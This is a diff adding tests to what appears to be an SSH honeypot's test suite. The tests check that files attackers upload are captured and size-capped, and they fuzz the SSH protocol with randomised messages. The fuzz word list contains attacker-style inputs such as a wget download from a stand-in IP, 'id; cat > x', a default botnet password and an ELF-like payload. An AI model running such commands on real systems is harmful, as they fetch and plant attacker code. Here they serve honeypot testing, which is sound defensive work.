@@ -5,6 +5,8 @@ from __future__ import annotations
 import hashlib
 
 import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
 
 from eudaemon.events.catalogue import (
     CommandEntered,
@@ -376,6 +378,32 @@ def test_what_a_command_was_being_sent_when_the_peer_left_is_kept() -> None:
     ]
 
 
+def test_what_was_being_sent_when_the_channel_was_closed_is_kept_and_nothing_is_said() -> None:
+    client = logged_in(table())
+    channel = client.open_session()
+    client.request(channel, b"exec", string(b"cat > /tmp/up; echo done"))
+    client.data(channel, b"\x7fELF and so on")
+    client.send(message(fields.CHANNEL_CLOSE, number(channel)))
+    client.take(fields.CHANNEL_CLOSE)
+    assert not client.heard  # and all that came was enciphered
+    assert [(kept.name, kept.data, kept.partial) for kept in client.table.kept] == [
+        ("/tmp/up", b"\x7fELF and so on", True)
+    ]
+
+
+def test_how_much_is_kept_of_one_session(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr("eudaemon.protocols.ssh.connection.KEPT_BYTES_MAX", 3000)
+    client = logged_in(table())
+    for number_, size in enumerate((1000, 2000, 1)):
+        channel = client.open_session()
+        client.request(channel, b"exec", string(b"scp -t /tmp"))
+        client.data(channel, b"C0644 %d f%d\n" % (size, number_) + bytes(size) + b"\0")
+        client.send(message(fields.CHANNEL_CLOSE, number(channel)))
+        client.heard.clear()
+    assert client.table.fault == "more than 3000 bytes to keep"
+    assert [len(kept.data) for kept in client.table.kept] == [1000, 2000]
+
+
 def test_an_authorized_key_is_kept() -> None:
     key = b"ssh-rsa AAAAB3NzaC1yc2E= mdrfckr"
     client = logged_in(table())
@@ -535,6 +563,7 @@ def test_how_long_a_command_may_be() -> None:
     channel = client.open_session()
     assert LINE_BYTES_MAX > 35_000  # no packet carries more
     client.request(channel, b"exec", string(b"echo 'unfinished"))
+    assert client.output() == b"sh: syntax error: unterminated quoted string\n"
     assert client.status() == 2
 
 
@@ -553,3 +582,50 @@ def test_claims() -> None:
 def test_fields_end_where_they_end() -> None:
     read = Fields(string(b"abc") + number(7))
     assert (read.string(), read.number(), read.rest()) == (b"abc", 7, b"")
+
+
+# --- whatever is sent, properly enciphered ---------------------------------------------------------
+
+WORDS = [
+    *b"session direct-tcpip tcpip-forward shell exec subsystem sftp pty-req env root xc3511 ssh-connection".split(),
+    *b"ssh-userauth password publickey none keyboard-interactive".split(),
+    b"id; cat > x", b"scp -t /tmp", b"wget http://192.0.2.9/x", b"sleep 9", b"C0644 3 x\n", b"exit\n", b"\x03", b"\x04",
+]  # fmt: skip
+PARTS = st.one_of(
+    st.sampled_from(WORDS).map(string), st.binary(max_size=8), st.integers(0, 2).map(number),
+    st.integers(0, 2**32 - 1).map(number), st.sampled_from([b"\0", b"\1"]),
+)  # fmt: skip
+KINDS = st.sampled_from([1, 2, 4, 5, 7, 20, 21, 30, 31, 34, 50, 61, 80, 90, 93, 94, 95, 96, 97, 98, 99]) | st.integers(
+    0, 255
+)
+LIKELY = st.one_of(
+    st.sampled_from(WORDS).map(lambda word: message(94, number(0), string(word))),
+    st.sampled_from(WORDS).map(lambda word: message(98, number(0), string(b"exec"), b"\1", string(word))),
+    st.sampled_from(WORDS).map(lambda word: message(98, number(0), string(word), b"\1", string(b"sftp"))),
+    st.just(message(90, string(b"session"), number(0), number(300), number(100))),
+    st.just(message(93, number(0), number(100))), st.just(message(96, number(0))), st.just(message(97, number(0))),
+)  # fmt: skip
+SAID = st.lists(
+    LIKELY | st.tuples(KINDS, st.lists(PARTS, max_size=5)).map(lambda drawn: message(drawn[0], *drawn[1])), max_size=14
+)
+
+
+@pytest.mark.parametrize("stage", ["connected", "logged in", "in a channel"])
+@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(said=SAID, wait=st.booleans(), reads=st.booleans())
+def test_no_message_is_a_fault_of_ours(stage: str, said: list[bytes], wait: bool, reads: bool) -> None:
+    given = table()
+    client = connected(given) if stage == "connected" else logged_in(given, window=500)
+    if stage == "in a channel":
+        client.open_session()
+    given.drains = reads
+    for payload in said:
+        given.say(client.sealer.seal(payload))
+        if wait:
+            given.wait(10)
+        if given.wishes and not given.over:
+            given.answer("ok", b"#!/bin/sh\nid\n")
+    purse = given.room.visit.purse
+    given.end()
+    assert 0 <= purse.bytes_taken <= purse.bytes_max
+    purse.close()
